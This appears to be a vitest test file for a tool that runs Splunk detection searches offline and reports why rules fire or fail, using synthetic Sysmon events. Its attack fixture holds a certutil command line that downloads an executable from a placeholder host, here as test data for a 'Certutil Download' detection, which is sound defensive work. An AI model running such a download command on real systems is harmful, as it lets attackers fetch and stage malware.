import { mkdirSync, mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { gzipSync } from "node:zlib";
import { beforeAll, describe, expect, it } from "vitest";
import { prepare, SplError } from "../../src/index.ts";
import { detection, matchers, sysmon } from "../../src/testing/index.ts";

const certutil = "C:\\Windows\\System32\\certutil.exe";
const attack = sysmon(1, { Image: certutil, CommandLine: "certutil -urlcache -f http://x.example/a.exe" });
const benign = sysmon(1, { Image: "C:\\Windows\\System32\\notepad.exe" });

const rule = detection({
  name: "Certutil Download",
  search:
    "`sysmon` EventCode=1 Image=*\\\\certutil.exe CommandLine=*urlcache* | stats count by Computer User | `x_filter`",
  macros: { sysmon: 'source="XmlWinEventLog:Microsoft-Windows-Sysmon/Operational"' },
});

let pack = "";
let file = "";

beforeAll(() => {
  pack = mkdtempSync(join(tmpdir(), "speleo-"));
  for (const folder of ["detections", "macros", "lookups"]) mkdirSync(join(pack, folder));
  writeFileSync(join(pack, "macros/mine.yml"), "name: mine\ndefinition: EventCode=1\n");
  file = join(pack, "detections/d.yml");
  writeFileSync(
    file,
    "name: D\nsearch: '`mine` | stats count by user dest | `d_filter`'\nrba:\n  message: $user$\n  risk_objects: [{field: user, type: user, score: 40}]\n  threat_objects: []\n",
  );
});

const message = (step: () => void): string => {
  try {
    step();
  } catch (error) {
    return error instanceof Error ? error.message.replaceAll(pack, "PACK") : String(error);
  }
  return "no failure";
};

describe("toFireOn", () => {
  it("passes where the detection finds what is expected", () => {
    expect(rule).toFireOn([attack]);
    expect(rule).toFireOn([attack, benign], {
      count: 1,
      fields: { User: "CORP\\*" },
      rows: [{ Computer: "ws01.corp.example", count: "1" }],
    });
    expect(rule).toFireOn([attack], { count: { atLeast: 1, atMost: 2 } });
    expect(rule).not.toFireOn([benign]);
  });
  it("is not passed by results that come without any event too", () => {
    const counted = detection({ search: "EventCode=9999 | stats count" });
    expect(message(() => expect(counted).toFireOn([attack]))).toContain(
      "- 1 result, and the same without any event: no row is left after stage 1",
    );
    expect(message(() => expect(counted).toFireOn([attack], { count: 1 }))).toContain("the same without any event");
    expect(message(() => expect(counted).toFireOn([]))).toContain("the same without any event");
    expect(counted).toFireOn([attack], { count: 1, fields: { count: 0 } });
    expect(detection({ search: "EventCode=1 | stats count" })).toFireOn([attack]);
    expect(detection({ search: "| makeresults" })).toFireOn([attack]);
  });
  it("says which term the nearest event fails", () => {
    expect(message(() => expect(rule).toFireOn([benign, sysmon(1, { Image: certutil })], { count: 1 }))).toBe(
      [
        "expected Certutil Download to fire on 2 events",
        "",
        "- no results, exactly 1 expected",
        "",
        " #  stage                                                         in → out",
        ' 1  source="XmlWinEventLog:Microsoft-Windows-Sysmon/Operational" EventCode=1 Image=*\\\\certutil.exe CommandLine=*urlcache*     2 → 0  ◀ every row is lost here',
        "     of the macro `sysmon`",
        "     no row passes all of these:",
        '       2 of 2  source="XmlWinEventLog:Microsoft-Windows-Sysmon/Operational"',
        "       2 of 2  EventCode=1",
        "       1 of 2  Image=*\\\\certutil.exe",
        "       0 of 2  CommandLine=*urlcache*  ◀",
        "     the nearest is row 2:",
        '       fails CommandLine=*urlcache*: CommandLine is "C:\\Windows\\System32\\certutil.exe"',
        " 2  stats count by Computer User                                     0 → 0",
        " 3  search *                                                         0 → 0",
        "     of the macro `x_filter`",
      ].join("\n"),
    );
  });
  it("shows the rows that came, and in what they differ", () => {
    expect(
      message(() =>
        expect(rule).toFireOn([attack], {
          count: { atLeast: 2 },
          fields: { User: "CORP\\bob" },
          rows: [{ Computer: "srv", count: 1 }],
        }),
      ),
    ).toBe(
      [
        "expected Certutil Download to fire on 1 event",
        "",
        "- 1 result, at least 2 expected",
        "- no result has Computer=srv, count=1; the nearest has Computer=ws01.corp.example",
        "- no result has User=CORP\\bob; found: CORP\\alice",
        "",
        "User        Computer           count",
        "──────────  ─────────────────  ─────",
        "CORP\\alice  ws01.corp.example  1",
        "",
        " #  stage                                                         in → out",
        ' 1  source="XmlWinEventLog:Microsoft-Windows-Sysmon/Operational" EventCode=1 Image=*\\\\certutil.exe CommandLine=*urlcache*     1 → 1',
        "     of the macro `sysmon`",
        " 2  stats count by Computer User                                     1 → 1",
        " 3  search *                                                         1 → 1",
        "     of the macro `x_filter`",
      ].join("\n"),
    );
  });
  it("shows what was found where nothing should be", () => {
    expect(message(() => expect(rule).not.toFireOn([benign, attack]))).toBe(
      [
        "expected Certutil Download not to fire on 2 events",
        "",
        "- 1 result, none expected",
        "",
        "Computer           User        count",
        "─────────────────  ──────────  ─────",
        "ws01.corp.example  CORP\\alice  1",
        "",
        " #  stage                                                         in → out",
        ' 1  source="XmlWinEventLog:Microsoft-Windows-Sysmon/Operational" EventCode=1 Image=*\\\\certutil.exe CommandLine=*urlcache*     2 → 1',
        "     of the macro `sysmon`",
        " 2  stats count by Computer User                                     1 → 1",
        " 3  search *                                                         1 → 1",
        "     of the macro `x_filter`",
      ].join("\n"),
    );
  });
  it("looks at the risk that the detection's file defines", () => {
    const read = detection(file);
    const events = [{ EventCode: 1, user: "ann", dest: "a" }];
    expect(read).toFireOn(events, { risk: [{ object: "ann", type: "user", score: 40 }] });
    expect(message(() => expect(read).toFireOn(events, { risk: [{ object: "bob" }] }))).toContain(
      "- no risk event for bob; found: ann (user, 40)",
    );
    expect(message(() => expect(rule).toFireOn([attack], { risk: [{ object: "ann" }] }))).toBe(
      "Certutil Download has no file that defines its risk",
    );
  });
});

describe("a search that cannot run", () => {
  const refused = detection({ search: "* | rest /services" });
  it.each([
    ["toFireOn", () => expect(refused).toFireOn([attack])],
    [".not.toFireOn", () => expect(refused).not.toFireOn([attack])],
    [".not.toMatchDetection", () => expect([attack]).not.toMatchDetection(refused)],
    [".not.toReturnRows", () => expect("* | rest /x").not.toReturnRows([{ a: 1 }], { events: [attack] })],
    ["toParseAsSpl", () => expect("| rest /x").toParseAsSpl()],
    [".not.toParseAsSpl", () => expect("| rest /x").not.toParseAsSpl()],
  ])("fails under %s", (_, step) => {
    expect(step).toThrow(SplError);
    expect(step).toThrow("rest cannot run offline");
  });
  it.each([
    ["* | stat count", "there is no command `stat`"],
    ["`nosuch`", "there is no macro `nosuch`"],
    ["* | lookup nosuch a OUTPUT b", "there is no lookup `nosuch`"],
  ])("fails under .not: %s", (search, text) => {
    expect(() => expect(detection({ search })).not.toFireOn([attack])).toThrow(text);
  });
  it("is shown where it stands in the detection's file", () => {
    const path = join(pack, "detections/wrong.yml");
    writeFileSync(path, "name: Wrong\nsearch: >-\n  index=main\n  | stats cuont by user\n");
    expect(message(() => expect(detection(path)).not.toFireOn([attack]))).toBe(
      [
        "error: there is no stats function `cuont`",
        "  PACK/detections/wrong.yml:4:11",
        "   4 │   | stats cuont by user",
        "     │           ^^^^^ did you mean `count`?",
      ].join("\n"),
    );
  });
});

describe("a test that would test nothing", () => {
  it.each([
    ["no events", () => expect(rule).not.toFireOn([]), ".not.toFireOn needs events: without any, nothing can be found"],
    [
      "no events, no rows",
      () => expect("a=1").toReturnRows([]),
      "toReturnRows([]) needs events: without any, nothing can be found",
    ],
    [
      "a demand under .not",
      () => expect(rule).not.toFireOn([benign], { fields: { usr: "x" } }),
      ".not.toFireOn takes no `fields`: a detection that stays quiet has no results at all",
    ],
    ["a count of 0", () => expect(rule).toFireOn([benign], { count: 0 }), "a detection that fires has results"],
    [
      "a misspelt option",
      () => Reflect.apply(matchers.toFireOn, {}, [rule, [attack], { cuont: 1 }]),
      "what is expected has no option `cuont`: did you mean `count`?",
    ],
    [
      "a misspelt option of rows",
      () => Reflect.apply(matchers.toReturnRows, {}, ["*", [{ a: 1 }], { event: [attack] }]),
      "toReturnRows has no option `event`: did you mean `events`?",
    ],
    ["no detection", () => expect(3).toFireOn([attack]), "toFireOn is about a detection() or the text of a search"],
    [
      "undefined in a row",
      () => Reflect.apply(matchers.toReturnRows, {}, ["*", [{ a: undefined }], { events: [{}] }]),
      "the expected a is undefined",
    ],
    [
      "an event that is none",
      () => Reflect.apply(matchers.toFireOn, {}, [rule, [null]]),
      "event 1 of the list is not an object",
    ],
    ["a bad count", () => expect(rule).toFireOn([attack], { count: 1.5 }), "a count is a whole number, not 1.5"],
  ])("is refused: %s", (_, step, text) => {
    expect(step).toThrow(TypeError);
    expect(step).toThrow(text);
  });
});

describe("toReturnRows", () => {
  const events = [
    { user: "ann", bytes: "10" },
    { user: "bob", bytes: "20" },
    { user: "ann", bytes: "30" },
  ];
  it("finds rows in any order, by the fields that they name, numbers by their value", () => {
    expect("* | stats sum(bytes) as n count by user").toReturnRows(
      [
        { user: "bob", n: "20.0" },
        { user: "ann", n: 40 },
      ],
      {
        events,
      },
    );
    expect("* | stats count by user").toReturnRows([{ user: "a*" }], { events });
    expect("* | stats values(bytes) as all").toReturnRows([{ all: ["10", "20", "30"] }], { events });
    expect("user=zoe").toReturnRows([], { events });
  });
  it("lets each result stand for one expected row", () => {
    expect("* | table user bytes").toReturnRows([{ user: "ann" }, { user: "ann", bytes: 10 }], { events });
    expect(() => expect("* | table user").toReturnRows([{ user: "bob" }, { user: "bob" }], { events })).toThrow(
      "no result has user=bob",
    );
  });
  it("compares all rows and fields when asked", () => {
    const search = "* | stats count by user";
    expect(search).toReturnRows(
      [
        { user: "bob", count: 1 },
        { user: "ann", count: "2" },
      ],
      { events, exact: true },
    );
    expect(() => expect(search).toReturnRows([{ user: "bob" }, { user: "ann" }], { events, exact: true })).toThrow();
    expect(() => expect(search).toReturnRows([{ user: "bob", count: 1 }], { events, exact: true })).toThrow(
      "2 results, exactly 1 expected",
    );
    expect(() =>
      expect(search).toReturnRows(
        [
          { user: "*", count: 1 },
          { user: "ann", count: 2 },
        ],
        { events, exact: true },
      ),
    ).toThrow();
  });
  it("under .not finds none of the rows", () => {
    expect("* | stats count by user").not.toReturnRows([{ user: "zoe" }, { user: "bob", count: 2 }], { events });
    expect(() =>
      expect("* | stats count by user").not.toReturnRows([{ user: "zoe" }, { user: "bob" }], { events }),
    ).toThrow('a result has {"user":"bob"}');
  });
  it("says what came instead", () => {
    expect(message(() => expect("* | stats count by user").toReturnRows([{ user: "ann", count: 3 }], { events }))).toBe(
      [
        "expected these rows from the search on 3 events",
        "",
        "- no result has user=ann, count=3; the nearest has count=2",
        "",
        "user  count",
        "────  ─────",
        "ann   2",
        "bob   1",
        "",
        " #  stage                in → out",
        " 1  *                       3 → 3",
        " 2  stats count by user     3 → 2",
      ].join("\n"),
    );
  });
  it("knows macros and lookups, and runs at the time that it is told", () => {
    expect('`all` | lookup teams user OUTPUT team | eval today=strftime(now(), "%F %H")').toReturnRows(
      [{ user: "bob", team: "red", today: "2026-01-02 05" }],
      {
        events,
        macros: { all: "user=*" },
        lookups: { teams: [{ user: "bob", team: "red" }] },
        now: "2026-01-02T03:00:00Z",
        timeZone: "Europe/Helsinki",
      },
    );
  });
});

describe("toMatchDetection", () => {
  it("is toFireOn the other way round", () => {
    expect([attack]).toMatchDetection(rule, { count: 1 });
    expect([benign]).not.toMatchDetection(rule);
    expect(() => expect([benign]).toMatchDetection(rule)).toThrow("no results, at least 1 expected");
  });
});

describe("toParseAsSpl", () => {
  it("takes what can be parsed, and shows what is wrong", () => {
    expect("index=main | stats count by user").toParseAsSpl();
    expect("index=main | stat count").not.toParseAsSpl();
    expect(message(() => expect("index=main | stat count").toParseAsSpl())).toBe(
      [
        "error: there is no command `stat`",
        "  the search:1:14",
        "   1 │ index=main | stat count",
        "     │              ^^^^ did you mean `stats`?",
      ].join("\n"),
    );
    expect(message(() => expect("index=main").not.toParseAsSpl())).toBe(
      "expected that this is no search that can be parsed:\n\nindex=main",
    );
  });
});

describe("events and detections", () => {
  it("come from files, plain and gzipped, and from datasets", () => {
    const lines = '{"EventCode":1,"user":"ann","dest":"a","_time":5}\n{"EventCode":3,"user":"bob","_time":6}\n';
    const plain = join(pack, "events.ndjson");
    const zipped = join(pack, "events.ndjson.gz");
    writeFileSync(plain, lines);
    writeFileSync(zipped, gzipSync(lines));
    for (const events of [plain, zipped, pathToFileURL(plain), { path: plain }])
      expect(detection(file)).toFireOn(events, { rows: [{ user: "ann", dest: "a", count: 1 }] });
    expect(detection(pathToFileURL(file))).toFireOn(prepare([{ EventCode: 1, user: "ann", dest: "a" }]));
    const raw = join(pack, "raw.xml");
    writeFileSync(raw, String(attack._raw));
    expect(rule).toFireOn({ path: raw, sourcetype: "XmlWinEventLog", source: String(attack.source) });
    expect(() => detection(file).rows("/nowhere")).toThrow("/nowhere: there is no such file");
    expect(() => detection("/nowhere.yml")).toThrow("/nowhere.yml: there is no such file with a detection");
  });
  it("are at the latest time of the events, unless told otherwise", () => {
    const clock = detection({ search: '* | eval n=strftime(now(), "%F") | table n' });
    expect(clock.rows([{ _time: 0 }, { _time: 86400 * 3 }])).toEqual([{ n: "1970-01-04" }, { n: "1970-01-04" }]);
    expect(clock.rows(prepare([{ _time: 86400 }]))).toEqual([{ n: "1970-01-02" }]);
    expect(clock.rows([{ _time: 0 }], { now: 86400 * 7 })).toEqual([{ n: "1970-01-08" }]);
  });
  it("know no pack when told so", () => {
    expect(() => detection(file, { content: null }).rows([{}])).toThrow("there is no macro `mine`");
  });
  it("begin anew with each run", () => {
    const writer = detection({
      search: "* | outputlookup append=t seen.csv | inputlookup append=t seen.csv | stats count",
    });
    expect(writer.rows([{ a: 1 }])).toEqual(writer.rows([{ a: 1 }]));
  });
});
